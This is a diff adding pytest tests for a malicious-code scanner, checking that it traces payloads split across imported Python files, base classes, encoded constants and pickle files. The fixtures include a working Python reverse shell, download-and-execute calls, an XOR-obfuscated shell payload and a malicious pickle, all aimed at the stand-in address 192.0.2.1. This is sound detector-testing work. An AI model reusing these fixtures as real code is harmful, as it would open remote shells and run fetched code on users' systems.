@@ -1,0 +1,134 @@
+"""A payload that is cut in two by an import is told alike, on the file that is scanned."""
+
+import pytest
+
+from scanner.finding import FileReport, Severity
+from tests.hostile.scanning import blocked_for
+from tests.hostile.trees import scan
+from tests.recipes.payloads import PAYLOADS
+
+SHELL = """
+import os, pty, socket
+def connect(host):
+    s = socket.socket()
+    s.connect((host, 4444))
+    [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
+    pty.spawn("/bin/sh")
+"""
+FETCH = "import urllib.request\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n"
+
+LOADERS = {
+    "from": ("data/load.py", "from util import connect\nconnect('192.0.2.1')", "data/util.py"),
+    "import": ("load.py", "import util\nutil.connect('192.0.2.1')", "util.py"),
+    "as": ("load.py", "import util as u\nu.connect('192.0.2.1')", "util.py"),
+    "relative": ("p/load.py", "from .util import connect\nconnect('192.0.2.1')", "p/util.py"),
+    "module of a package": ("p/load.py", "from . import util\nutil.connect('192.0.2.1')", "p/util.py"),
+    "relative above": ("p/q/load.py", "from ..util import connect\nconnect('192.0.2.1')", "p/util.py"),
+    "starred": ("load.py", "from util import *\nconnect('192.0.2.1')", "util.py"),
+    "package": ("load.py", "import p\np.connect('192.0.2.1')", "p/__init__.py"),
+    "folder": ("load.py", "import p.util\np.util.connect('192.0.2.1')", "p/util.py"),
+    "deep": ("load.py", "from p.q import util\nutil.connect('192.0.2.1')", "p/q/util.py"),
+    "package above": ("p/q/load.py", "from p.util import connect\nconnect('192.0.2.1')", "p/util.py"),
+    "import_module": (
+        "load.py", "import importlib\nm = importlib.import_module('util')\nm.connect('192.0.2.1')", "util.py",
+    ),
+    "import_module, relative": (
+        "p/load.py",
+        "from importlib import import_module\nimport_module('.util', __package__).connect('192.0.2.1')",
+        "p/util.py",
+    ),
+    "__import__": ("load.py", "getattr(__import__('util'), 'con' + 'nect')('192.0.2.1')", "util.py"),
+    "in a function": ("load.py", "def go():\n    from util import connect\n    connect('192.0.2.1')\ngo()", "util.py"),
+    "inherited": (
+        "load.py",
+        "import datasets\nfrom util import connect\nclass B(datasets.GeneratorBasedBuilder):\n"
+        "    def _split_generators(self, dl_manager):\n        connect('192.0.2.1')",
+        "util.py",
+    ),
+}  # fmt: skip
+
+
+def findings(report: FileReport) -> list[tuple[str, str]]:
+    assert report.failure is None
+    return [(f.rule, f.behaviour.value) for f in report.findings if f.severity is Severity.ERROR]
+
+
+@pytest.mark.parametrize(("name", "source", "helper"), LOADERS.values(), ids=LOADERS)
+def test_imports_are_followed(name: str, source: str, helper: str) -> None:
+    report = scan(name, {name: source, helper: SHELL})
+    assert findings(report) == [("remote-shell", "remote-shell")]
+    assert report.findings[0].site.path == name
+    assert {step.site.path for step in report.findings[0].steps} == {name, helper}
+
+
+@pytest.mark.parametrize("behaviour", PAYLOADS)
+def test_what_a_neighbour_does_when_it_is_imported(behaviour: str) -> None:
+    for source in PAYLOADS[behaviour].values():
+        assert behaviour in blocked_for(scan("load.py", {"load.py": "import util\n", "util.py": source}))
+
+
+def test_data_crosses_files() -> None:
+    report = scan("a.py", {"a.py": "from b import fetch\nexec(fetch('http://192.0.2.1/x'))", "b.py": FETCH})
+    assert findings(report) == [("download-and-run", "download-and-run")]
+    walk = [(step.site.path, step.site.line) for step in report.findings[0].steps]
+    assert walk == [("a.py", 1), ("b.py", 3), ("a.py", 2)]
+
+
+def test_data_crosses_three_files_and_a_cycle() -> None:
+    files = {
+        "load.py": "import c\nc.go('http://192.0.2.1/x')",
+        "b.py": "import c\n" + FETCH,
+        "c.py": "from b import fetch\ndef go(url):\n    exec(fetch(url))\n",
+    }
+    assert findings(scan("load.py", files)) == [("download-and-run", "download-and-run")]
+
+
+def test_constants_cross_files() -> None:
+    files = {"load.py": "from k import *\nexec(bytes(c ^ KEY for c in DATA))"}
+    data = [c ^ 7 for c in PAYLOADS["remote-shell"]["dup2"].encode()]
+    files["k.py"] = f"KEY = 7\nDATA = {data}"
+    assert findings(scan("load.py", {**files})) == [("remote-shell", "remote-shell")]
+
+
+def test_bases_cross_files() -> None:
+    files = {
+        "p/load.py": "from .base import Base\nclass Mine(Base):\n    host = '192.0.2.1'\nMine()",
+        "p/base.py": f"{SHELL}\nclass Base:\n    def __init__(self):\n        connect(self.host)\n",
+    }
+    assert findings(scan("p/load.py", {**files})) == [("remote-shell", "remote-shell")]
+
+
+def test_a_pickle_names_a_class_of_its_folder() -> None:
+    stream = b"\x80\x04cutil\nAgent\n)\x81}\x8c\x04host\x8c\x09192.0.2.1sb."
+    source = f"{SHELL}\nclass Agent:\n    def __setstate__(self, state):\n        connect(state['host'])\n"
+    report = scan("model.pkl", {"model.pkl": stream, "util.py": source})
+    assert ("remote-shell", "remote-shell") in findings(report)
+
+
+def test_nothing_is_hidden_by_a_neighbour_of_the_same_name() -> None:
+    source = "import requests\nexec(requests.get('http://192.0.2.1/x').text)"
+    for shadow in ("", "def get(url):\n    return None\n"):
+        report = scan("load.py", {"load.py": source, "requests.py": shadow})
+        assert ("download-and-run", "download-and-run") in findings(report)
+
+
+def test_neighbours_that_are_not_imported_or_called_are_not_told() -> None:
+    honest = {"load.py": "import util\nprint(util.name)", "util.py": SHELL + "name = 'x'", "b.py": "x = 1"}
+    assert scan("load.py", {**honest}).findings == ()
+    assert scan("b.py", {**honest}).findings == ()
+
+
+def test_lesser_findings_of_a_neighbour_are_its_own() -> None:
+    assert scan("load.py", {"load.py": "import util", "util.py": "import os\nos.system('id')"}).findings == ()
+
+
+def test_a_broken_or_endless_neighbour_is_only_unknown() -> None:
+    for helper in ("def f(:", "\0\0", "x = " + "(" * 10_000, "from load import *\nimport util\n"):
+        assert scan("load.py", {"load.py": "import util\nutil.f()", "util.py": helper}).findings == ()
+
+
+def test_long_chains_of_imports_end() -> None:
+    files: dict[str, str | bytes] = {f"m{i}.py": f"import m{i + 1}\nimport m{i + 2}\n" for i in range(200)}
+    report = scan("m0.py", files)
+    assert report.failure is None
+    assert report.findings == ()
